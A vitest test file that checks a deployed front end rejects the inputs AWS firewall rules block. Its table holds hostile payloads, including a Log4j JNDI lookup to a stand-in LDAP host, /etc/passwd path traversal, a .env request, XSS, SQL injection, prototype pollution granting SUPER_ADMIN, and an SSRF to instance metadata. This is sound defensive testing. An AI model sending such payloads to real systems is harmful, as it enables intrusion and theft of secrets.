import { describe, expect, it } from 'vitest';
import { contract } from '#shared/contract/index.ts';
import { viewerRequest } from './front/caller.ts';
import { deployed } from './front/deployed.ts';
import type { ViewerRequest } from './front/edge.ts';
import { edgeOf } from './front/gateway.ts';

const me = viewerRequest(contract.auth.me, {});
const login = viewerRequest(contract.auth.login, { email: 'a@example.it', password: 'x' });
const SCRIPT = '<script>alert(1)</script>';
const LOOK_UP = `\${jndi:ldap://203.0.113.66/a}`;

/** What AWS's rules for bad inputs and common attacks look for, by what the front does with it. */
const ATTACKS: Readonly<Record<string, Partial<ViewerRequest>>> = {
  'a Log4j lookup in a header': { headers: { ...me.headers, 'user-agent': LOOK_UP } },
  'a Log4j lookup in the query': { query: `x=${encodeURIComponent(LOOK_UP)}` },
  'a serialized Java object': { ...login, body: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==' },
  'a WebDAV method': { method: 'PROPFIND' },
  'a path out of the folder': { path: '/api/../../../../etc/passwd' },
  'an encoded path out of the folder': { path: '/api/user/%2e%2e%2f%2e%2e%2fetc%2fpasswd' },
  'a secrets file': { path: '/api/.env' },
  'another product’s admin page': { path: '/api/wp-admin/setup-config.php' },
  'a script in the query': { query: `x=${encodeURIComponent(SCRIPT)}` },
  'a script in the path': { path: `/api/${encodeURIComponent(SCRIPT)}` },
  'a script in a body': { ...login, body: JSON.stringify({ email: SCRIPT, password: 'x' }) },
  'SQL in a body': { ...login, body: JSON.stringify({ email: "' OR 1=1 --", password: 'x' }) },
  'a prototype in a body': {
    ...login,
    body: '{"__proto__":{"role":"SUPER_ADMIN"},"email":"a@example.it","password":"x"}',
  },
  'the address of the instance metadata': { query: 'url=http://169.254.169.254/latest/' },
  'a body that is too large': { ...login, body: JSON.stringify({ email: 'x'.repeat(70_000) }) },
  'no user agent': { headers: {} },
};

describe('an attack that the firewall’s content rules would block', () => {
  it.each(Object.entries(ATTACKS))('changes nothing and is not echoed: %s', async (_, attack) => {
    const { account } = await deployed();
    const before = await account.items();
    const { status, body } = await edgeOf(account).answer({ ...me, ...attack });
    expect(status).toBeGreaterThanOrEqual(400);
    expect(status).toBeLessThan(500);
    expect(body).not.toMatch(/jndi|script|passwd|1=1|stack|node_modules/i);
    const rateLimits = (items: readonly string[]) => items.filter(one => !one.includes('RATE'));
    expect(rateLimits(await account.items())).toEqual(rateLimits(before));
  });
});
